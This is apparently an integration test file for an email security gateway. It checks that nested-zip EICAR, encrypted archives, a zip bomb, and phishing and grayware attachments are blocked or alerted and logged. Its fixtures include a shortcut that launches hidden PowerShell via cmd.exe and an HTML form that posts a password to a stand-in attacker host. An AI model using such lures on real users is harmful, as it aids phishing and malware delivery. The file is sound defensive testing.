/**
 * Deep inspection through the gateway, with nodemailer as the sending client and smtp-server
 * as the receiving one: archives, file types and archive limits decide on the wire (541 and a
 * reset, or delivery), and every decision is logged with the file it is about.
 */

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import nodemailer from 'nodemailer';
import { createHash } from 'node:crypto';
import { AnalysisEngine } from '../../src/inspect/engines/analysis/engine.ts';
import { SqliteVerdictStore } from '../../src/inspect/engines/analysis/verdict-store.ts';
import { YaraRules } from '../../src/inspect/engines/analysis/yara.ts';
import type { Engine } from '../../src/inspect/engines/engine.ts';
import { EICAR, SignatureEngine } from '../../src/inspect/engines/signatures.ts';
import { lnk } from '../helpers/analysis-fixtures.ts';
import { nestedZip, zip } from '../helpers/archives.ts';
import { startGateway, startUpstream, type UpstreamPeer } from '../helpers/peers.ts';

const sha256 = (b: Buffer): string => createHash('sha256').update(b).digest('hex');

/** One message from nodemailer through the gateway: 'delivered', or the error (the SMTP reply). */
async function mail(
  port: number,
  m: { subject: string; text: string; attachments?: { filename: string; content: Buffer }[]; messageId?: string },
): Promise<string> {
  const t = nodemailer.createTransport({ host: '127.0.0.1', port, secure: false, ignoreTLS: true });
  try {
    await t.sendMail({ from: 'a@example.org', to: 'b@example.com', ...m });
    return 'delivered';
  } catch (err) {
    return String((err as Error).message);
  } finally {
    t.close();
  }
}

describe('deep inspection in the mail path', () => {
  let up: UpstreamPeer;
  before(async () => {
    up = await startUpstream();
  });
  after(() => up.close());

  async function send(port: number, attachments: { filename: string; content: Buffer }[]): Promise<{ ok: boolean; error: string }> {
    const t = nodemailer.createTransport({ host: '127.0.0.1', port, secure: false, ignoreTLS: true });
    try {
      await t.sendMail({ from: 'a@example.org', to: 'b@example.com', subject: 'archive', text: 'see attached', attachments });
      return { ok: true, error: '' };
    } catch (err) {
      return { ok: false, error: String((err as Error).message) };
    } finally {
      t.close();
    }
  }

  for (const forwarding of ['store-and-forward', 'cut-through'] as const) {
    it(`${forwarding}: EICAR three zips deep is blocked (541) and logged with its path; a clean zip is delivered intact`, async () => {
      const gw = await startGateway({ upstreamPort: up.port, forwarding });
      try {
        const before = up.messages.length;
        const bad = await send(gw.port, [{ filename: 'outer.zip', content: nestedZip(3, 'payload.com', EICAR) }]);
        assert.equal(bad.ok, false);
        assert.match(bad.error, /541 5\.4\.1 Content blocked by smtpwall \(threat: EICAR-Test-File, id: /);
        const clean = zip([{ name: 'report.txt', data: Buffer.from('quarterly numbers') }]);
        assert.equal((await send(gw.port, [{ filename: 'report.zip', content: clean }])).ok, true);
        assert.equal(up.messages.length, before + 1);
        assert.ok(up.messages.at(-1)!.data.includes(clean.toString('base64').slice(0, 60)), 'clean zip arrives byte-identical');
        const logs = gw.logs();
        const t = logs.listThreats(10).at(-1)!;
        logs.close();
        assert.equal(t.filePath, 'msg/2/outer.zip/level1.zip/level2.zip/payload.com');
        assert.equal(t.fileName, 'payload.com');
      } finally {
        await gw.stop();
      }
    });
  }

  it('encrypted zip and a zip bomb: blocked by default, with the event logged as an inspector finding', async () => {
    const gw = await startGateway({ upstreamPort: up.port });
    try {
      const before = up.messages.length;
      const enc = await send(gw.port, [{ filename: 'secret.zip', content: zip([{ name: 'x.exe', data: Buffer.from('cipher'), encrypted: true }]) }]);
      assert.match(enc.error, /541 5\.4\.1 Content blocked by smtpwall \(threat: ARCHIVE_ENCRYPTED, id: /);
      const bomb = await send(gw.port, [{ filename: 'bomb.zip', content: zip([{ name: 'zeros', data: Buffer.alloc(30 * 1024 * 1024) }]) }]);
      assert.match(bomb.error, /541 5\.4\.1 Content blocked by smtpwall \(threat: ARCHIVE_RATIO_EXCEEDED, id: /);
      assert.equal(up.messages.length, before);
      const logs = gw.logs();
      const threats = logs.listThreats(10).slice(-2);
      const traffic = logs.listTraffic(10).slice(-2);
      logs.close();
      assert.deepEqual(threats.map((t) => [t.engine, t.threat, t.filePath, t.detectedType]), [
        ['inspector', 'ARCHIVE_ENCRYPTED', 'msg/2', 'encrypted-zip'],
        ['inspector', 'ARCHIVE_RATIO_EXCEEDED', 'msg/2', 'zip'],
      ]);
      assert.match(traffic[0]!.reason, /cannot be inspected: ARCHIVE_ENCRYPTED at msg\/2\/secret\.zip \(x\.exe\)/);
      assert.match(traffic[1]!.reason, /archive limit: ARCHIVE_RATIO_EXCEEDED at msg\/2\/bomb\.zip/);
    } finally {
      await gw.stop();
    }
  });

  it('on-unscannable: alert lets an encrypted zip through, logged', async () => {
    // The helper writes the profile as `av: { action: ACTION }`: this adds a second key.
    const gw2 = await startGateway({ upstreamPort: up.port, action: 'block, on-unscannable: alert' });
    try {
      const before = up.messages.length;
      assert.equal((await send(gw2.port, [{ filename: 'secret.zip', content: zip([{ name: 'x.exe', data: Buffer.from('c'), encrypted: true }]) }])).ok, true);
      assert.equal(up.messages.length, before + 1);
      const logs = gw2.logs();
      const tr = logs.listTraffic(1)[0]!;
      logs.close();
      assert.equal(tr.action, 'alert');
      assert.deepEqual(tr.events, ['ARCHIVE_ENCRYPTED']);
    } finally {
      await gw2.stop();
    }
  });
});

describe('local analysis in the mail path', () => {
  let up: UpstreamPeer;
  before(async () => {
    up = await startUpstream();
  });
  after(() => up.close());

  it('malicious and phishing verdicts block (541), grayware alerts and is delivered; all logged with reasons', async () => {
    const gw = await startGateway({ upstreamPort: up.port });
    const send = (filename: string, content: Buffer) => mail(gw.port, { subject: filename, text: 'see attached', attachments: [{ filename, content }] });
    const shortcut = lnk('C:\\Windows\\System32\\cmd.exe', '/c powershell -w hidden');
    const grayPdf = Buffer.from('%PDF-1.7\n<< /OpenAction 2 0 R >> << /S /JavaScript /JS (app.alert(1)) >>\n%%EOF\n');
    try {
      const before = up.messages.length;
      assert.match(await send('invoice.zip', zip([{ name: 'invoice.pdf.lnk', data: shortcut }])), /541 5\.4\.1 Content blocked by smtpwall \(threat: Analysis\.Malicious\.lnk, id: /);
      assert.match(await send('login.html', Buffer.from('<html><form action="https://evil.example/x"><input type="password" name="p"></form></html>')), /threat: Analysis\.Phishing\.html/);
      assert.equal(await send('form.pdf', grayPdf), 'delivered');
      assert.equal(up.messages.length, before + 1);
      const logs = gw.logs();
      const threats = logs.listThreats(10).filter((t) => t.engine === 'analysis');
      logs.close();
      assert.deepEqual(threats.map((t) => [t.threat, t.action]), [['Analysis.Malicious.lnk', 'block'], ['Analysis.Phishing.html', 'block'], ['Analysis.Grayware.pdf', 'alert']]);
      assert.match(threats[0]!.signature, /shortcut runs cmd\.exe with arguments \(\/c\)/);
      assert.equal(threats[0]!.filePath, 'msg/2/invoice.zip/invoice.pdf.lnk');
      // Each judged file's sightings: which message, who it reached (or not), where in it.
      const store = new SqliteVerdictStore(gw.dataDir);
      const [blocked] = store.sightings(sha256(shortcut), 10);
      const [delivered] = store.sightings(sha256(grayPdf), 10);
      store.close();
      assert.deepEqual([blocked?.delivered, blocked?.action, blocked?.filePath, blocked?.rcptTo], [false, 'block', 'msg/2/invoice.zip/invoice.pdf.lnk', ['b@example.com']]);
      assert.deepEqual([delivered?.delivered, delivered?.action, delivered?.mailFrom, delivered?.filePath], [true, 'alert', 'a@example.org', 'msg/2']);
      assert.match(delivered!.messageId, /^<.+@.+>$/);
    } finally {
      await gw.stop();
    }
  });
});

describe('7z through 7-Zip in the mail path', { skip: existsSync('/usr/bin/7zz') ? false : '7zz is not installed (apt-get install 7zip)' }, () => {
  it('EICAR inside a 7z whose password is in the message: 541, the member path logged; seven-zip: off lets the policy see it as unscannable', async () => {
    const up = await startUpstream();
    const dir = mkdtempSync(join(tmpdir(), 'smtpwall-7zgw-'));
    writeFileSync(join(dir, 'invoice.com'), EICAR);
    assert.equal(spawnSync('/usr/bin/7zz', ['a', '-t7z', '-pRg-7731', '-mhe=on', 'p.7z', 'invoice.com'], { cwd: dir }).status, 0);
    const archive = readFileSync(join(dir, 'p.7z'));
    const send = (port: number) => mail(port, { subject: 'invoice', text: 'The password is Rg-7731', attachments: [{ filename: 'invoice.7z', content: archive }] });
    const gw = await startGateway({ upstreamPort: up.port });
    const off = await startGateway({ upstreamPort: up.port, extra: 'engines: { seven-zip: { path: off } }\n' });
    try {
      assert.match(await send(gw.port), /541 5\.4\.1 .*threat: EICAR-Test-File/);
      const logs = gw.logs();
      const [t] = logs.listThreats(1);
      logs.close();
      assert.equal(t!.filePath, 'msg/2/invoice.7z/invoice.com');
      assert.match(await send(off.port), /541 5\.4\.1 /, 'without 7-Zip the encrypted 7z is unscannable: blocked by default');
    } finally {
      await gw.stop();
      await off.stop();
      await up.close();
    }
  });
});

describe('analysis failures in the mail path', () => {
  let up: UpstreamPeer;
  before(async () => {
    up = await startUpstream();
  });
  after(() => up.close());

  it('a file past the analysis deadline gets on-error (tempfail: 451), is not delivered, and the failure is logged', async () => {
    const gw = await startGateway({ upstreamPort: up.port, extra: 'engines: { analysis: { timeout: 1ms } }\n' });
    const t = nodemailer.createTransport({ host: '127.0.0.1', port: gw.port, secure: false, ignoreTLS: true });
    try {
      const before = up.messages.length;
      await assert.rejects(
        t.sendMail({ from: 'a@example.org', to: 'b@example.com', subject: 'slow', text: 'see attached', attachments: [{ filename: 'a.lnk', content: lnk('C:\\x.exe', '') }] }),
        /451 4\.\d\.\d /,
      );
      assert.equal(up.messages.length, before);
      const logs = gw.logs();
      const [rec] = logs.listTraffic(1);
      logs.close();
      assert.match(JSON.stringify(rec), /analysis.*took longer than 1 ms/);
    } finally {
      t.close();
      await gw.stop();
    }
  });
});

describe('hold mode and retro-alerts', () => {
  let up: UpstreamPeer;
  const dir = mkdtempSync(join(tmpdir(), 'smtpwall-hold-'));
  const rules = join(dir, 'rules.yar');
  writeFileSync(rules, 'rule Late_Marker { meta: description = "marker found late" score = 90 strings: $m = "LATE-VERDICT-MARKER" condition: $m }\n');
  let yaraHere = true;
  try {
    YaraRules.load([rules]);
  } catch {
    yaraHere = false;
  }
  before(async () => {
    up = await startUpstream();
  });
  after(() => up.close());

  // 8 MB of text for YARA to read, with the marker at the end.
  const bigAttachment = Buffer.concat([Buffer.alloc(8 * 1024 * 1024, 0x61), Buffer.from(' LATE-VERDICT-MARKER ')]);
  const sendWith = (port: number) => mail(port, { subject: 'late', messageId: '<late-1@example.org>', text: 'see attached', attachments: [{ filename: 'data.txt', content: bigAttachment }] });
  /**
   * The analysis engine with the test's YARA rules behind a 500 ms delay and a 50 ms hold: the
   * verdict always comes after the hold (both are timers, so the order is certain even on a
   * loaded machine; a real 8 MB scan against a 1 ms hold was not), then it goes on.
   */
  const slowAnalysis = (dataDir: string): Engine[] => {
    const real = YaraRules.load([rules]);
    const slow = { id: real.id, files: real.files, scan: async (b: Buffer) => (await new Promise((r) => setTimeout(r, 500)), real.scan(b)) } as unknown as YaraRules;
    return [new SignatureEngine(), new AnalysisEngine(new SqliteVerdictStore(dataDir), { yara: slow, holdMs: 50 })];
  };

  it('verdict not ready within the hold time: analysis-on-timeout tempfail (default) answers 451', { skip: yaraHere ? false : 'YARA-X not installed' }, async () => {
    const gw = await startGateway({ upstreamPort: up.port, engines: slowAnalysis });
    try {
      assert.match(await sendWith(gw.port), /451 4\.7\.1 /);
    } finally {
      await gw.stop();
    }
  });

  it('analysis-on-timeout allow: delivered, then the late malicious verdict is a retro-alert naming the message', { skip: yaraHere ? false : 'YARA-X not installed' }, async () => {
    const gw = await startGateway({ upstreamPort: up.port, action: 'block, analysis-on-timeout: allow', engines: slowAnalysis });
    try {
      const before = up.messages.length;
      assert.equal(await sendWith(gw.port), 'delivered');
      assert.equal(up.messages.length, before + 1);
      let alert;
      for (let i = 0; i < 100 && !alert; i++) {
        await new Promise((r) => setTimeout(r, 100));
        const logs = gw.logs();
        alert = logs.listThreats(10).find((t) => t.action === 'retro-alert');
        logs.close();
      }
      assert.ok(alert, 'a retro-alert was written');
      assert.equal(alert.threat, 'Analysis.Malicious.text');
      assert.equal(alert.filePath, 'msg/2');
      assert.deepEqual(alert.rcptTo, ['b@example.com']);
      assert.match(alert.signature, /YARA rule Late_Marker: marker found late .*verdict after delivery: Message-ID <late-1@example\.org>/);
      // The file was still in analysis when the message was logged: its sighting is there too.
      const store = new SqliteVerdictStore(gw.dataDir);
      const seen = store.sightings(sha256(bigAttachment), 10);
      const verdict = store.get(sha256(bigAttachment));
      store.close();
      assert.equal(verdict?.verdict, 'malicious');
      assert.deepEqual(seen.map((x) => [x.messageId, x.delivered, x.rcptTo]), [['<late-1@example.org>', true, ['b@example.com']]]);
    } finally {
      await gw.stop();
    }
  });
});

describe('data filtering in the mail path', () => {
  let up: UpstreamPeer;
  before(async () => {
    up = await startUpstream();
  });
  after(() => up.close());

  it('five card numbers (one in an attachment) are rejected 550; one is alerted and delivered; logs mask the values', async () => {
    const gw = await startGateway({
      upstreamPort: up.port,
      profiles: 'data-filtering:\n  cards: { patterns: [{ name: pan, type: credit-card, weight: 1 }], alert-threshold: 1, block-threshold: 5, action: reject }',
      ruleProfiles: 'data-filtering: cards',
    });
    const send = (text: string, attachment?: Buffer) => mail(gw.port, { subject: 'numbers', text, attachments: attachment ? [{ filename: 'list.csv', content: attachment }] : [] });
    try {
      const before = up.messages.length;
      const csv = Buffer.from('name,card\nx,5500 0000 0000 0004\ny,4012888888881881\nz,378282246310005\n');
      assert.match(await send('cards: 4111 1111 1111 1111 and 6011-0009-9013-9424', csv), /550 5\.7\.1 Message rejected by smtpwall \(threat: DLP:cards, id: /);
      assert.equal(await send('order 4111 1111 1111 1111, and 4111 1111 1111 1112 is not a card (Luhn)'), 'delivered');
      assert.equal(up.messages.length, before + 1);
      const logs = gw.logs();
      const records = logs.listThreats(10).filter((t) => t.engine === 'data-filtering');
      const traffic = logs.listTraffic(10);
      logs.close();
      assert.deepEqual(records.map((r) => r.action), ['reject', 'alert']);
      assert.match(records[0]!.signature, /score 5 .*pan x5 \(/);
      assert.match(traffic[1]!.reason, /pan x1 \(4111 \*\*\*\* \*\*\*\* 1111\)/);
      for (const r of [...records.map((x) => x.signature), ...traffic.map((x) => x.reason)]) {
        assert.doesNotMatch(r, /4111 1111 1111 1111|5500 0000 0000 0004|4012888888881881/, 'never in clear');
      }
    } finally {
      await gw.stop();
    }
  });
});
